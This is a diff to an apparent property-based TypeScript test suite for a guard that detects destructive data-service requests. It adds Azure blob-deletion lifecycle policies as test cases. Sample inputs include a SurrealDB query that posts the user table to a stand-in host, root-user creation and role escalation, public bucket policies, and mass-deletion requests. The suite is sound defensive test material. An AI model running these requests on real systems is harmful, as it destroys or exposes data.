@@ -4201,6 +4201,8 @@ t.test('twenty-ninth pass: data services whose destructive operations are not SQ
   const xml = (url: string, body: string) => ({ method: 'PUT', url, headers: [['Content-Type', 'application/xml']] as Array<[string, string]>, body });
   const dynamo = (op: string, o: unknown) => json('POST', `${h}/`, o, [['X-Amz-Target', `DynamoDB_20120810.${op}`]]);
   const lifecycle = (filter: string, exp = '<Expiration><Days>1</Days></Expiration>') => `<?xml version="1.0"?><LifecycleConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Rule><ID>r</ID>${filter}<Status>Enabled</Status>${exp}</Rule></LifecycleConfiguration>`;
+  const azurePolicy = (prefixMatch: string[] | undefined) => json('PUT', `${h}/subscriptions/s/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/acct/managementPolicies/default?api-version=2023-01-01`,
+    { properties: { policy: { rules: [{ enabled: true, name: 'r', type: 'Lifecycle', definition: { actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: 0 } } }, filters: { blobTypes: ['blockBlob'], ...(prefixMatch ? { prefixMatch } : {}) } } }] } } });
   const surreal = fc.constantFrom('DELETE user;', 'delete FROM user', 'DELETE ONLY user RETURN NONE', 'DELETE user WHERE true', 'DELETE user WHERE email != NONE', 'DELETE user:..', 'DELETE user:tobie, post',
     'REMOVE TABLE user', 'remove table if exists user', 'REMOVE DATABASE app', 'REMOVE FIELD email ON TABLE user', 'DEFINE USER eve ON ROOT PASSWORD \'x\' ROLES OWNER', 'DEFINE TABLE user PERMISSIONS FULL',
     'UPDATE user SET role = \'admin\'', 'UPSERT user MERGE {role: \'admin\'}', 'UPDATE user:1 SET x = (DELETE user)', 'SELECT http::post(\'https://x.example\', (SELECT * FROM user)) FROM ONLY 1',
@@ -4217,7 +4219,8 @@ t.test('twenty-ninth pass: data services whose destructive operations are not SQ
       xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><!-- <Prefix>tmp/</Prefix> --></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter/>', '<NoncurrentVersionExpiration><NoncurrentDays>1</NoncurrentDays></NoncurrentVersionExpiration>')),
       json('PUT', `${h}/bucket?policy`, { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: 'arn:aws:s3:::bucket/*' }] }), { method: 'PUT', url: `${h}/bucket?acl`, headers: [['x-amz-acl', 'public-read-write']] as Array<[string, string]> },
       xml(`${h}/bucket?versioning`, '<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>'),
-      json('PATCH', `${h}/storage/v1/b/bucket`, { lifecycle: { rule: [{ action: { type: 'Delete' }, condition: { age: 0 } }] } }), json('PUT', `${h}/storage/v1/b/bucket/iam`, { bindings: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] }),
+      json('PATCH', `${h}/storage/v1/b/bucket`, { lifecycle: { rule: [{ action: { type: 'Delete' }, condition: { age: 0 } }] } }),
+      azurePolicy(undefined), azurePolicy(['logs']), json('PUT', `${h}/storage/v1/b/bucket/iam`, { bindings: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] }),
       json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu"' }),
       { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE FROM cpu WHERE time < now()')}` }, { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE WHERE now() >= time')}` },
       json('PATCH', `http://${SQL_HOST}:8086/api/v2/buckets/0a1b`, { retentionRules: [{ type: 'expire', everySeconds: 1 }] }),
@@ -4266,7 +4269,7 @@ t.test('twenty-ninth pass: data services whose destructive operations are not SQ
     json('POST', `http://${SQL_HOST}:7700/indexes/movies/search`, { q: 'drop', filter: 'id > 0' }),
     json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DELETE FROM users WHERE email = "a@b.example"' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'UPSERT INTO users (KEY, VALUE) VALUES ("k", {"a": 1})' }),
     json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'SELECT * FROM users USE KEYS "u1"' }),
-    json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Equal', path: ['title'], valueText: 'x' } } }),
+    json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Equal', path: ['title'], valueText: 'x' } } }), azurePolicy(['logs/tmp']),
     json('POST', `http://${SQL_HOST}:19530/v2/vectordb/entities/delete`, { collectionName: 'users', filter: 'id in [1, 2]' }), json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { must: [{ has_id: [7] }] } }), { method: 'POST', url: `http://${SQL_HOST}:3100/loki/api/v1/delete?query=${encodeURIComponent('{app="web"} |= "token"')}&start=0` }, json('PUT', `http://${SQL_HOST}:9200/_ilm/policy/logs`, { policy: { phases: { hot: { actions: { rollover: { max_age: '1d' } } } } } }),
   ];
   for (const r of controls) {
